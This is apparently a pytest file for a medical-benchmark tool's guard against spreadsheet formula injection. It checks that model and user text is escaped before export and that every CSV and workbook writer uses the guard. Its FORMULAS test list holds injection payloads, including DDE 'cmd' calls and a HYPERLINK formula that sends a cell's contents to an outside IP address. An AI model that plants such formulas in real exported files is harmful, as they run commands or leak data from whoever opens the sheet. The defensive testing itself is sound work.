"""No text of a model becomes a formula in a spreadsheet, and no cell is cut without a word."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import duckdb
import pytest
from hypothesis import given
from hypothesis import strategies as st

import medhelm as package
from medhelm.io.parquet import sql_text
from medhelm.io.spreadsheets import (
    FORMULA,
    LONGEST_CELL,
    NUMBER,
    cell_parts,
    csv_file,
    guarded,
    is_formula,
    is_too_long,
    unguarded,
)
from tests.support.cli import Medhelm
from tests.support.stores import make_store

FORMULAS = [
    "=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '-2 +HYPERLINK("http://203.0.113.5/?x="&A2,"x")',
    "+1 +cmd|' /C calc'!A0", "-1.5%+HYPERLINK(1)", "-1e5*cmd()", "\n=1+1", "\r\n=1+1", "\t=1+1", "\ttext", "\rtext",
    " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "\u202e=1+1", "\u2066=1+1", "\x00=1+1", "\x1b=1+1", "\x85=1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\ufe66A1", "\u2212A1", "'=1+1", "''=1+1", "'\t=1+1",
    "- rest and fluids", "-", "-5\n=1+1", "-5\n", "+1 [=cmd]", "-1 [2](3)", "-1 [1]+A2", "-0.1 [-0.2, 0.1] +A2", "-٥",
]  # fmt: skip
TEXTS = [
    "", "a", "text = more", "a@b.example", "5", "-5", "+5", "-0.5", "-.5", "-1,234.5", "-12%", "-1e-05", "+1.5E3",
    "-0.019 [-0.054, 0.011]", "'tis", "'", "<0.001", "(=1)", '"=1"', "–", "é", "openai/gpt-4o", "[x](y)",
]  # fmt: skip
any_text = st.one_of(
    st.text(), st.text(st.sampled_from("'=+-@\t\r\n \u00a0\ufeff＝1.,%eE[]a")), st.sampled_from(FORMULAS + TEXTS)
)


def test_formulas_are_known_from_texts_and_numbers() -> None:
    assert [text for text in FORMULAS if not is_formula(text)] == []
    assert [text for text in TEXTS if is_formula(text)] == []


@given(any_text)
def test_a_guarded_text_is_no_formula_and_can_be_restored(text: str) -> None:
    field = guarded(text)
    assert unguarded(field) == text
    assert field == text or field[0] == "'"
    stripped = text.strip("".join(map(chr, range(33))) + "\u00a0\ufeff\u200b'")
    assert field != text or not stripped.startswith(tuple("=+-@＝＋－＠")) or not any(map(str.isalpha, stripped[:1]))


@given(st.lists(any_text.filter(lambda text: "\0" not in text), min_size=1, max_size=20))
def test_the_database_knows_the_same_formulas(texts: list[str]) -> None:
    texts = [text.encode("utf-8", "replace").decode() for text in texts]
    query = (
        f"SELECT regexp_matches(t, {sql_text(FORMULA)}) AND NOT regexp_matches(t, {sql_text(NUMBER)}) "
        "FROM (SELECT unnest($texts::VARCHAR[]) AS t)"
    )
    with duckdb.connect() as connection:
        found = [row[0] for row in connection.execute(query, {"texts": texts}).fetchall()]
    assert found == [is_formula(text) for text in texts]


@pytest.mark.parametrize("text", ["", "x" * LONGEST_CELL, "\U0001f600" * LONGEST_CELL, "é" * 40_000])
def test_parts_of_a_text_fit_into_cells(text: str) -> None:
    parts = cell_parts(text)
    assert "".join(parts) == text
    assert all(len(part.encode("utf-16-le")) // 2 <= LONGEST_CELL for part in parts)
    assert is_too_long(text) == (len(parts) > 1)
    assert cell_parts("a\ud800b\uffff") == ["a\ufffdb\ufffd"]
    assert (csv_file("a,b\n"), csv_file("Étude\n")) == (b"a,b\n", b"\xef\xbb\xbf\xc3\x89tude\n")


# --- every writer -----------------------------------------------------------------------------------------------------

GUARDED = {
    "extensions/study/formats/redcap.py",
    "results/formats/rating_workbook.py",
    "results/formats/tables.py",
    "storage/export_tables.py",
    "storage/ratings.py",
}
"""Modules that write cells with texts of models or users."""
INVENTED = {"benchmarks/new_benchmark.py", "benchmarks/data/sample_files.py"}
"""Modules that write our own invented rows as data of a benchmark, which is read back as it is."""


WRITER = r"csv\.(?:writer|DictWriter)\("


def test_every_writer_of_csv_and_workbooks_uses_the_guard() -> None:
    writers, users = set(), set()
    source = Path(package.__file__).parent
    for path in source.rglob("*.py"):
        name, text = path.relative_to(source).as_posix(), path.read_text(encoding="utf-8")
        if "xlsxwriter" in text or "FORMAT csv" in text or ("import csv" in text and re.search(WRITER, text)):
            writers.add(name)
        if "medhelm.io.spreadsheets" in text:
            users.add(name)
    assert writers == GUARDED | INVENTED
    assert users >= GUARDED


def formulas_in(content: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(content.removeprefix("\ufeff"), newline="")))
    return [cell for row in rows for cell in row if is_formula(cell) and not cell.startswith("'")]


def test_tables_have_no_formula(medhelm: Medhelm, tmp_path: Path) -> None:
    scores = {"triage": {"=HYPERLINK(1)": [1.0, 0.0, 1.0], "-2 +HYPERLINK(2)": [0.0, 0.0, 1.0]}}
    make_store(tmp_path, scores)
    for command in ("leaderboard", "leaderboard --by head-to-head", "cost", "runs list"):
        done = medhelm(*command.split(), "--format", "csv", "--store", tmp_path)
        assert (done.code, "HYPERLINK" in done.out, formulas_in(done.out)) == (0, True, [])
